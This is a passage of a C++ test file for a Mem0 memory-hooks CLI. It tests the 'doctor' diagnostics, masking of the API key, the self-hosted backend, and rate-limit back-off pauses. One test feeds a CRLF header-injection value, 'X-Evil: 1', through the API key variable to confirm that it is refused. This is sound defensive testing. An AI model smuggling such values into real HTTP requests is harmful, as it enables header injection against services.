  CHECK(mt::has_line(c.text(), row("backend", "Mem0 Platform (default)")));
  CHECK(mt::has_line(c.text(), row("ping", "HTTP 200 in 3 ms")));
  CHECK(mt::has_line(
      c.text(),
      row("search",
          "HTTP 200 in 3 ms: key and filters accepted; the test query \"mem0 doctor check\" "
          "matched nothing, which is fine: it checks access, not your memories")));
  // The search, then the platform's ping, in one batch; the search with the shared memory.
  REQUIRE(c.f.http.requests.size() == 2);
  CHECK(c.f.http.batches == 1);
  CHECK(c.f.http.requests[0].url == "https://api.mem0.ai/v3/memories/search/");
  CHECK(c.f.http.requests[1].url == "https://api.mem0.ai/v1/ping/");
  const std::string shared = shared_agent_id("proj", c.f.project);
  CHECK(mt::parse_sent(c.f.http.requests[0]).shared_agents ==
        std::vector<std::string>{shared, "proj"});
  CHECK(mt::has_line(
      c.text(), row("shared", "project memory of agent " + shared + " and proj searched too")));
}

TEST_CASE("doctor: shared memory off is shown, and the check searches without it",
          "[cli][doctor]") {
  CliFixture c;
  c.f.set_env("MEM0_SHARED_MEMORY", "off");
  CHECK(c.run({"doctor"}) == k_ok);
  CHECK(mt::has_line(c.text(), row("shared", "off (shared_memory)")));
  REQUIRE_FALSE(c.f.http.requests.empty());
  CHECK(mt::filters_of(c.f.http.requests[0]) ==
        R"({"AND":[{"user_id":"alice"},{"app_id":"proj"}]})");
}

TEST_CASE("doctor: every setting is a row under settings, with its value and its origin",
          "[cli][doctor][origin]") {
  CliFixture c;
  mt::write_file(c.f.home / ".mem0/settings.json", R"({"search_plan": "thorough"})");
  c.f.set_env("MEM0_DAILY_SEARCH_LIMIT", "7");
  CHECK(c.run({"doctor"}) == k_ok);
  const std::string text = c.text();
  // From the environment, from settings.json, unset.
  CHECK(mt::has_line(text, setting_row("daily_search_limit", "7 (env MEM0_DAILY_SEARCH_LIMIT)")));
  CHECK(mt::has_line(text, setting_row("user_id", "alice (env MEM0_USER_ID)")));
  CHECK(mt::has_line(text, setting_row("search_plan", "thorough (settings.json)")));
  CHECK(mt::has_line(text, setting_row("show_recall", "off (default)")));
  CHECK(mt::has_line(text, setting_row("confidence_threshold", "0.3 (default)")));
  CHECK(mt::has_line(text, setting_row("backend", "platform (default)")));
  CHECK(mt::has_line(
      text, setting_row("state_dir", (c.f.home / "state").string() + " (env MEM0_STATE_DIR)")));
  // The key masked, as on the api key row; never the key itself.
  CHECK(mt::has_line(text, setting_row("api_key", "m0-" + k_ell + "1234 (env MEM0_API_KEY)")));
  CHECK_FALSE(mt::contains(text, "m0-test-key-1234"));
  // One row per setting, in the table's order, right after the settings row.
  const auto lines = mt::lines_of(text);
  const auto at = std::find_if(lines.begin(), lines.end(),
                               [](const std::string &l) { return l.starts_with("settings "); });
  REQUIRE(at != lines.end());
  const auto table = settings_table();
  REQUIRE(static_cast<std::size_t>(lines.end() - at) > table.size());
  for (std::size_t i = 0; i < table.size(); ++i)
    CHECK(at[1 + i].starts_with(setting_row(table[i].name, "")));
  CHECK(at[1 + table.size()].starts_with("state dir "));
  // The rows already there keep their texts.
  CHECK(
      mt::has_line(text, row("plan", "thorough plan, rerank on, threshold 0.30, auto search on")));
  CHECK(c.rows("settings").size() == 1);
}

TEST_CASE("doctor: a setting's row names an environment value it did not understand",
          "[cli][doctor][origin]") {
  CliFixture c;
  mt::write_file(c.f.home / ".mem0/settings.json", R"({"search_plan": "thorough"})");
  c.f.set_env("MEM0_SEARCH_PLAN", "fast");
  c.f.set_env("MEM0_TIMEOUT_MS", "2s");
  CHECK(c.run({"doctor"}) == k_ok);
  CHECK(mt::has_line(c.text(), setting_row("search_plan",
                                           "thorough (settings.json; MEM0_SEARCH_PLAN=fast not "
                                           "understood (lean or thorough))")));
  CHECK(mt::has_line(c.text(),
                     setting_row("timeout_ms",
                                 "5000 (default; MEM0_TIMEOUT_MS=2s not understood (decimal "
                                 "digits))")));
}

TEST_CASE("doctor: a refused key's row says refused, with its origin and nothing of the key",
          "[cli][doctor][origin]") {
  CliFixture c;
  c.f.set_env("MEM0_API_KEY", "m0-abc\r\nX-Evil: 1");
  CHECK(c.run({"doctor"}) == k_failure);
  CHECK(mt::has_line(c.text(), setting_row("api_key", "refused (env MEM0_API_KEY)")));
  CHECK_FALSE(mt::contains(c.text(), "m0-abc"));
  CHECK_FALSE(mt::contains(c.text(), "X-Evil"));
}

TEST_CASE("doctor: a pause the check renews is a row and a fix; not all checks passed",
          "[cli][doctor]") {
  CliFixture c;
  c.pause_for(std::chrono::seconds(60));
  c.f.http.responder = [](const HttpRequest &) {
    return mt::http_status(429, R"({"detail":"Too many requests"})", std::chrono::seconds(120));
  };
  CHECK(c.run({"doctor"}) == k_failure);
  CHECK(c.rows("pause") ==
        std::vector<std::string>{row("pause", "rate limited by Mem0: recall and capture paused "
                                              "until 2025-03-10 12:02:00 UTC (120 s)")});
  CHECK(mt::has_line(c.text(), k_reset_fix));
  CHECK_FALSE(mt::contains(c.text(), "all checks passed"));
  CHECK_FALSE(mt::contains(c.text(), "checks passed"));
  const auto pause = c.pause();
  REQUIRE(pause);
  CHECK(pause->remaining == std::chrono::seconds(120));
}

TEST_CASE("doctor: a 429 to the check starts a pause even when none was in force",
          "[cli][doctor]") {
  CliFixture c;
  c.f.http.responder = [](const HttpRequest &r) {
    if (r.url.ends_with("/v1/ping/")) return mt::http_status(200, "{}");
    return mt::http_status(429, "{}", std::chrono::seconds(120));
  };
  CHECK(c.run({"doctor"}) == k_failure);
  CHECK(c.rows("pause") ==
        std::vector<std::string>{row("pause", "rate limited by Mem0: recall and capture paused "
                                              "until 2025-03-10 12:02:00 UTC (120 s)")});
  CHECK(mt::has_line(c.text(), k_reset_fix));
  CHECK(c.pause());
}

TEST_CASE("doctor: an unreachable server that is paused shows the count in the pause row",
          "[cli][doctor]") {
  CliFixture c;
  {
    auto store = c.f.store();
    for (int i = 0; i < 3; ++i)
      REQUIRE(store.backoff.record_outcome(c.f.now, c.server(), Outcome::unreachable));
  }
  REQUIRE(c.pause());
  c.f.http.responder = [](const HttpRequest &) {
    return mt::transport_failure(ErrorKind::transport);
  };
  CHECK(c.run({"doctor"}) == k_failure);
  CHECK(c.rows("pause") ==
        std::vector<std::string>{row("pause", "Mem0 unreachable after 4 failed attempts: recall "
                                              "and capture paused until 2025-03-10 12:00:30 UTC "
                                              "(30 s)")});
  CHECK(mt::has_line(c.text(), "fix: wait until 2025-03-10 12:00:30 UTC, or run `mem0-hooks "
                               "doctor --reset` to try again now"));
  CHECK_FALSE(mt::contains(c.text(), "checks passed"));
}

TEST_CASE("doctor: the report the console shows holds the rows, warnings and fixes it prints",
          "[cli][doctor]") {
  CliFixture c;
  REQUIRE(c.run({"pause"}) == k_ok); // a warning
  c.f.http.responder = [](const HttpRequest &) { return mt::http_status(200, "[]"); };
  c.run({"doctor"});
  const std::string printed = c.text();
  std::ostringstream quiet, quiet_err;
  const DoctorReport report = doctor_report(CliContext{c.f.deps(),
                                                       quiet,
                                                       quiet_err,
                                                       c.f.project,
                                                       c.exe_dir,
                                                       SteadyClock::now() + std::chrono::seconds(5),
                                                       {}});
  CHECK(quiet.str().empty()); // the report prints nothing
  REQUIRE(report.rows.size() > 10);
  CHECK(report.fixes.empty());
  REQUIRE(report.warnings.size() == 1);
  std::string again; // the report, printed as doctor prints it
  for (const DoctorRow &r : report.rows)
    again += (r.sub ? "  " : "") + r.name +
             std::string(r.name.size() < r.column ? r.column - r.name.size() : 1, ' ') + r.value +
             "\n";
  for (const auto &w : report.warnings)
    again += "warning: " + w + "\n";
  CHECK(again + "checks passed, with 1 warning\n" == printed);
  rapidjson::Document json;
  json.Parse(doctor_json(report).c_str());
  REQUIRE(json.IsObject());
  CHECK(json["rows"].Size() == report.rows.size());
  CHECK(std::string(json["summary"].GetString()) == "checks passed, with 1 warning");
  CHECK(json["rows"][0]["sub"].IsFalse());
}

TEST_CASE("doctor: a pause the check's answer ends is reported as ended early", "[cli][doctor]") {
  CliFixture c;
  c.pause_for(std::chrono::seconds(600));
  c.pause_for(std::chrono::seconds(600), "other-server");
  CHECK(c.run({"doctor"}) == k_ok);
  CHECK(c.rows("pause") ==
        std::vector<std::string>{row("pause", "ended early: the server answered")});
  CHECK_FALSE(mt::contains(c.text(), "--reset"));
  CHECK(mt::has_line(c.text(), "all checks passed"));
  CHECK_FALSE(c.pause());
  CHECK(c.f.store().backoff.active_pause(c.f.now, "other-server")); // another server's stays
}

TEST_CASE("doctor --reset ends every pause first and says how many", "[cli][doctor]") {
  CliFixture c;
  SECTION("one") {
    c.pause_for(std::chrono::seconds(600));
    CHECK(c.run({"doctor", "--reset"}) == k_ok);
    REQUIRE_FALSE(c.text().empty());
    CHECK(mt::lines_of(c.text()).front() == "reset       1 pause ended");
    CHECK_FALSE(c.pause());
    CHECK(c.rows("pause").empty()); // ended by the reset, not by the check
    CHECK(mt::has_line(c.text(), "all checks passed"));
  }
  SECTION("two, of two servers") {
    c.pause_for(std::chrono::seconds(600));
    c.pause_for(std::chrono::seconds(600), "other-server");
    CHECK(c.run({"doctor", "--reset"}) == k_ok);
    CHECK(mt::lines_of(c.text()).front() == "reset       2 pauses ended");
    CHECK_FALSE(c.f.store().backoff.active_pause(c.f.now, "other-server"));
  }
  SECTION("none") {
    CHECK(c.run({"doctor", "--reset"}) == k_ok);
    CHECK(mt::lines_of(c.text()).front() == "reset       0 pauses ended");
  }
  SECTION("a reset that the check's 429 undoes at once") {
    c.pause_for(std::chrono::seconds(600));
    c.f.http.responder = [](const HttpRequest &) {
      return mt::http_status(429, "{}", std::chrono::seconds(120));
    };
    CHECK(c.run({"doctor", "--reset"}) == k_failure);
    CHECK(mt::lines_of(c.text()).front() == "reset       1 pause ended");
    CHECK(c.rows("pause").size() == 1);
    REQUIRE(c.pause());
    CHECK(c.pause()->remaining == std::chrono::seconds(120));
  }
}

TEST_CASE("doctor --help lists --reset", "[cli][doctor]") {
  CliFixture c;
  CHECK(c.run({"doctor", "--help"}) == k_ok);
  const auto lines = mt::lines_of(c.text());
  REQUIRE_FALSE(lines.empty());
  CHECK(lines.front() == "usage: mem0-hooks doctor [--reset]");
  CHECK(std::any_of(lines.begin(), lines.end(),
                    [](const std::string &l) { return l.starts_with("  --reset "); }));
  CHECK(c.f.http.requests.empty());
  // An unknown flag is still refused.
  CHECK(c.run({"doctor", "--rest"}) == k_usage);
}

TEST_CASE("doctor: a self-hosted server gets one search and no ping", "[cli][doctor]") {
  CliFixture c;
  c.f.set_env("MEM0_BACKEND", "selfhosted");
  CHECK(c.run({"doctor"}) == k_ok);
  REQUIRE(c.f.http.requests.size() == 1);
  const HttpRequest &req = c.f.http.requests[0];
  CHECK(req.method == "POST");
  CHECK(req.url == "http://localhost:8888/search");
  CHECK(mt::carries_header(req, "X-API-Key: m0-test-key-1234"));
  CHECK_FALSE(mt::carries_header_named(req, "Authorization"));
  CHECK(mt::filters_of(req) == R"({"user_id":"alice","agent_id":"proj"})");
  CHECK(mt::has_line(c.text(),
                     row("ping", "none on a self-hosted server; the search checks the key")));
  CHECK(mt::has_line(
      c.text(),
      row("search",
          "HTTP 200 in 3 ms: key and filters accepted; the test query \"mem0 doctor check\" "
          "matched nothing, which is fine: it checks access, not your memories")));
  CHECK(mt::has_line(c.text(), row("backend", "self-hosted Mem0 server (env MEM0_BACKEND)")));
  CHECK(mt::has_line(c.text(), row("base url", "http://localhost:8888 (default for selfhosted)")));
  CHECK(mt::has_line(c.text(), row("shared", "not on a self-hosted server")));
  CHECK(mt::has_line(c.text(), "all checks passed"));

  SECTION("a rejected key names the server's dashboard, not app.mem0.ai") {
    c.f.http.responder = [](const HttpRequest &) {
      return mt::http_status(401, R"({"detail":"Invalid API key"})");
    };
    CHECK(c.run({"doctor"}) == k_failure);
    CHECK(mt::has_line(c.text(), "fix: the server rejected the API key: create one in its "
                                 "dashboard and set MEM0_API_KEY"));
    CHECK_FALSE(mt::contains(c.text(), "app.mem0.ai"));
  }
}

TEST_CASE("peek: a pause of this server answers rate limited without sending; a 429 starts one",
          "[cli][backoff]") {
  CliFixture c;
  c.f.http.answer({mt::memory(1, "decision", "Use exponential backoff with jitter")});
  SECTION("this server paused") {
    c.pause_for(std::chrono::seconds(600));
    CHECK(c.run({"peek", "retry logic for the sync worker"}) == k_failure);
    CHECK(c.f.http.requests.empty()); // held by the back-off, as the memory tools are
    CHECK(mt::contains(c.err.str(), "mem0-hooks peek: rate limited: Mem0 is paused for 600 s"));
    CHECK(c.text().empty());
    CHECK(c.pause()); // nothing answered: the pause stays
  }
  SECTION("another server paused") {
    c.pause_for(std::chrono::seconds(600), "other-server");
    CHECK(c.run({"peek", "retry logic for the sync worker"}) == k_ok);
    CHECK(c.f.http.requests.size() == 2);
    CHECK(mt::contains(c.text(), "[mem0:" + mt::id8_of(1) + "]"));
    CHECK(c.f.store().backoff.active_pause(c.f.now, "other-server"));
  }
  SECTION("a 429") {
    c.f.http.responder = [](const HttpRequest &) {
      return mt::http_status(429, "{}", std::chrono::seconds(45));
    };
    CHECK(c.run({"peek", "retry logic for the sync worker"}) == k_failure);
    REQUIRE(c.pause());
    CHECK(c.pause()->remaining == std::chrono::seconds(45));
    CHECK(c.pause()->reason == "rate limited by Mem0");
  }
}

TEST_CASE("context: a pause of this server answers rate limited without sending",
          "[cli][backoff]") {
  CliFixture c;
  c.pause_for(std::chrono::seconds(600));
  CHECK(c.run({"context", "refactor the sync worker's retry logic"}) == k_failure);
  CHECK(c.f.http.requests.empty());
  CHECK(mt::contains(c.err.str(), "mem0-hooks context: rate limited: Mem0 is paused for 600 s"));
  CHECK(c.pause());
}

TEST_CASE("context: an answer outside a pause feeds the back-off", "[cli][backoff]") {
  CliFixture c;
  c.f.http.responder = [](const HttpRequest &) {
    return mt::http_status(429, "{}", std::chrono::seconds(30));
  };
  CHECK(c.run({"context", "refactor the sync worker's retry logic"}) == k_failure);
  REQUIRE(c.pause());
  CHECK(c.pause()->remaining == std::chrono::seconds(30));
}

namespace {

// The send step recall and the memory service share: run_plan, then feed_backoff.
PlanOutcome run_searches(const CliContext &ctx, const ApiTarget &api, const Identity &identity,
                         const std::vector<SearchSpec> &plan) {
  PlanOutcome outcome = run_plan(ctx.http, api, identity, plan, ctx.deadline, ctx.log);
  feed_backoff(ctx, api, outcome);
  return outcome;
}

} // namespace

TEST_CASE("feed_backoff records a run in the back-off of its server", "[cli][backoff]") {
  CliFixture c;
  const CliContext ctx = c.context();
  const ApiTarget api = api_target(c.f.config).value();
  REQUIRE(api.server_key() == c.server());
  const Identity identity{"alice", "proj", ""};
  const std::vector<SearchSpec> plan{{"q", std::nullopt, 5, Scope::project},
                                     {"q", std::string("decision"), 5, Scope::project}};

  SECTION("an answer ends a pause") {
    c.pause_for(std::chrono::seconds(600));
    const PlanOutcome outcome = run_searches(ctx, api, identity, plan);
    CHECK(outcome.sent == 2);
    CHECK(outcome.failures.empty());
    CHECK_FALSE(c.pause());
  }
  SECTION("one search answered of two is an answer") {
    c.pause_for(std::chrono::seconds(600));
    c.f.http.answer_by_type([](const std::string &type) -> Result<HttpResponse> {
      if (type.empty()) return mt::transport_failure(ErrorKind::timeout);
      return mt::found({});
    });
    run_searches(ctx, api, identity, plan);
    CHECK_FALSE(c.pause());
  }
  SECTION("three unreachable runs pause") {
    c.f.http.responder = [](const HttpRequest &) {
      return mt::transport_failure(ErrorKind::transport);
    };
    for (int i = 0; i < 3; ++i) {
      CHECK_FALSE(c.pause());
      run_searches(ctx, api, identity, plan);
    }
    REQUIRE(c.pause());
    CHECK(c.pause()->reason == "Mem0 unreachable after 3 failed attempts");
  }
  SECTION("a 429 pauses for the longest Retry-After") {
    c.f.http.answer_by_type([](const std::string &type) -> Result<HttpResponse> {
      return mt::http_status(429, "{}", std::chrono::seconds(type.empty() ? 20 : 70));
    });
    run_searches(ctx, api, identity, plan);
    REQUIRE(c.pause());
    CHECK(c.pause()->remaining == std::chrono::seconds(70));
    CHECK_FALSE(c.f.store().backoff.active_pause(c.f.now, "other-server"));
  }
}
